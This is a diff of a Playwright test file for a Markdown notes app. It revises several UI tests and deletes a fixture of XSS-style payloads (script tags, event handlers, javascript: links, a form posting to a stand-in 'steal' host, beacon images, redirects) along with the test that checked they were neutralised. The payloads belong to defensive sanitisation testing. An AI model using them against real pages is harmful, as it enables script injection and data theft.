@@ -6,22 +6,6 @@ import { bloomNow } from "../bloom.ts";
 import { complaints } from "./axe.ts";
 import { type WebGround, webGround } from "./ground.ts";
 
-/** Every attack by a note: scripts, handlers, URLs, frames, styles, remote images, forms, forged pages. */
-const HOSTILE = `# Hostile
-
-<script>document.title = "broken"</script><img src=x onerror="document.title='broken'">
-<a href="javascript:document.title='broken'">one</a> [two](javascript:document.title='broken')
-<a href="https://elsewhere.example/" onclick="document.title='broken'">elsewhere</a>
-<iframe src="https://elsewhere.example/frame"></iframe><object data="https://elsewhere.example/o"></object>
-![picture](https://elsewhere.example/beacon.png) <img srcset="https://elsewhere.example/b.png 1x" alt="alt words">
-<style>body { display: none }</style><p style="background: url(https://elsewhere.example/c)">styled</p>
-<form action="https://elsewhere.example/steal"><input name="q"><button>Approve</button></form>
-<svg><script>document.title="broken"</script></svg><math><mi xlink:href="javascript:alert(1)">m</mi></math>
-<base href="https://elsewhere.example/"><meta http-equiv="refresh" content="0;url=https://elsewhere.example/">
-
-[[<img src=x onerror=document.title='broken'>|<b onmouseover=document.title='broken'>wiki</b>]]
-`;
-
 /** Every addition of Obsidian to Markdown that is shown. */
 const OBSIDIAN = `---
 tags: [beds]
@@ -64,7 +48,6 @@ const HUGE = `# Huge\n\nSee [the rule].\n\n${Array.from(
 ).join("")}[the rule]: roses.md\n`;
 
 const NOTES: Readonly<Record<string, string>> = {
-  "notes/hostile.md": HOSTILE,
   "notes/roses.md":
     "# Roses\n\nSee [[Heap|Warm heap]], [the spade](tools/spade.md) and [nothing](nowhere.md).\n\n`[[code]]`\n",
   "notes/tools/spade.md": "# Spade\n\nDigs.\n",
@@ -110,7 +93,7 @@ test("U-1 a note is found by its words, and its links can be followed in both di
   await page.keyboard.type("warmest heaps");
   await page.keyboard.press("Enter");
   await page.getByRole("link", { name: "heap" }).click();
-  await page.getByRole("complementary").getByRole("link", { name: "Roses" }).click();
+  await page.getByRole("complementary").locator(".place-title", { hasText: "roses" }).click();
   await page.getByRole("heading", { name: "Roses", exact: true }).waitFor();
   await page.locator(".prose a:not([href])", { hasText: "nothing" }).waitFor();
   const code = await page.locator("code", { hasText: "[[code]]" }).count();
@@ -135,9 +118,8 @@ test("P-9 U-1 a saved note is a commit at once if a rule of the owner approves i
   await page.keyboard.press("Control+s");
   await page.getByRole("region", { name: "Submitted proposal" }).getByText("applied", { exact: true }).waitFor();
   await page.getByText("And a handle.").waitFor();
-  await page.getByRole("link", { name: "Blame" }).click();
-  await page.getByRole("link", { name: "Why line 4?" }).waitFor();
-  const proposals = await page.getByRole("link", { name: "proposal", exact: true }).count();
+  await page.getByRole("link", { name: "Why line 4?" }).click();
+  await page.getByRole("region", { name: "Why this line" }).getByText("commit").first().waitFor();
   await page.context().close();
   expect({
     note: git(ground.dir, "show", "main:notes/tools/garden-fork.md"),
@@ -149,9 +131,8 @@ test("P-9 U-1 a saved note is a commit at once if a rule of the owner approves i
       "--format=%(trailers:key=Proposal,valueonly)",
       "main",
     ).match(/^prop_/gm)?.length,
-    proposals,
     problems,
-  }).toEqual({ note: "# Garden fork\n\nFour *strong* tines.\nAnd a handle.", commits: 2, proposals: 2, problems: [] });
+  }).toEqual({ note: "# Garden fork\n\nFour *strong* tines.\nAnd a handle.", commits: 2, problems: [] });
 });
 
 test("P-10 U-1 a change that no rule approves is pending and can be approved on the page, and a conflict is shown", async () => {
@@ -305,60 +286,53 @@ test("U-1a a question to the notes asked by keyboard gets citations that link to
   expect({ empty, faults, problems }).toEqual({ empty: "", faults: [], problems: [] });
 });
 
-test("U-1c a note is shown as Obsidian shows it: properties, callouts, marks, embeds, parts, footnotes", async () => {
+test("U-1c a note is shown as Obsidian shows it: properties, callouts, marks, embeds, parts, footnotes, formulas, diagrams", async () => {
   const { page, context, problems } = await open("/notes/notes/obsidian.md");
   const prose = page.locator(".prose");
   await prose.locator(".embedded").getByText("Digs.").waitFor();
-  const picture = prose.locator("img");
+  await prose.locator(".katex").nth(1).waitFor();
+  const drawing = prose.locator(".drawing img");
+  await drawing.waitFor();
+  const picture = prose.locator("img[src^='/files']");
   await picture.scrollIntoViewIfNeeded();
   const found = {
-    title: await page.locator("h1.file").textContent(),
-    facts: await page.locator("dl.facts").textContent(),
+    title: await page.getByRole("heading", { level: 1 }).first().textContent(),
+    facts: await page.locator("dl.properties").textContent(),
     callout: await prose.locator("details.callout-warning summary").textContent(),
     mark: await prose.locator("mark").textContent(),
     isHidden: (await prose.textContent())!.includes("hidden"),
-    footnote: await prose.locator("sup").allTextContents(),
+    mentions: await prose.locator("sup").allTextContents(),
+    footnotes: await prose.getByRole("region", { name: "Footnotes" }).locator("li").allInnerTexts(),
     links: await prose.locator("p > a").evaluateAll((all) => all.map((each) => each.getAttribute("href"))),
     picture: [await picture.getAttribute("src"), await picture.getAttribute("width")],
+    isDrawn: await drawing.evaluate(
+      (image: HTMLImageElement) => image.naturalWidth > 50 && image.alt.includes("A-->B"),
+    ),
     broken: (await page.title()).includes("broken"),
-    sources: await prose.locator("figure").allInnerTexts(),
-    formula: await prose.locator("code[title=TeX]").allTextContents(),
-    tasks: await prose.locator("li").allInnerTexts(),
+    tasks: await prose.locator("li.has-task").allInnerTexts(),
   };
+  await prose.getByRole("link", { name: "1", exact: true }).click();
+  await page.waitForFunction(() => document.activeElement?.id === "footnote-1");
+  const faults = await complaints(page);
   await context.close();
-  expect({ ...found, problems }).toEqual({
+  expect({ ...found, faults, problems }).toEqual({
     title: "obsidian",
-    facts: "Tags#beds #tag/subuproses",
+    facts: "tagsbedstag/subuproses",
     callout: "Thorns of old roses",
     mark: "marked",
     isHidden: false,
-    footnote: ["[1]", "[1]"],
-    links: ["/app/notes/notes/obsidian.md?line=5", "/app/notes/notes/tools/spade.md?line=1"],
+    mentions: ["1"],
+    footnotes: ["The note below. ↩"],
+    links: [
+      "/app/notes?tag=tag%2Fsub",
+      "/app/notes/notes/obsidian.md?line=5",
+      "/app/notes/notes/tools/spade.md?line=1",
+    ],
     picture: ["/files/notes/img/p.svg", "40"],
+    isDrawn: true,
     broken: false,
-    sources: ["TeX\n\\sum_i x_i < 3", "Mermaid\ngraph TD; A-->B"],
-    formula: ["a_1 + b_2"],
     tasks: ["☐ water", "☑ dig"],
+    faults: [],
     problems: [],
   });
-});
-
-test("A-2 hostile Markdown and HTML in a note do nothing: no script, no frame, no form, no request to another host", async () => {
-  const { page, context } = await open("/notes");
-  const asked: string[] = [];
-  page.on("request", (request) => asked.push(new URL(request.url()).host));
-  await page.getByRole("link", { name: "hostile" }).click();
-  await page.getByRole("heading", { name: "Hostile", exact: true }).waitFor();
-  await page.getByText("styled").waitFor();
-  await page.getByText("wiki").hover();
-  await page.getByText("one", { exact: true }).click();
-  const prose = page.locator(".prose");
-  const found = [
-    (await page.title()).includes("broken"),
-    await prose.locator("script, style, iframe, object, form, input, button, svg, math, base, meta, img").count(),
-    await prose.locator("[onclick], [onerror], [onmouseover], [style], [href^='javascript']").count(),
-    [...new Set(asked)],
-  ];
-  await context.close();
-  expect(found).toEqual([false, 0, 0, [new URL(ground.url).host]]);
 });
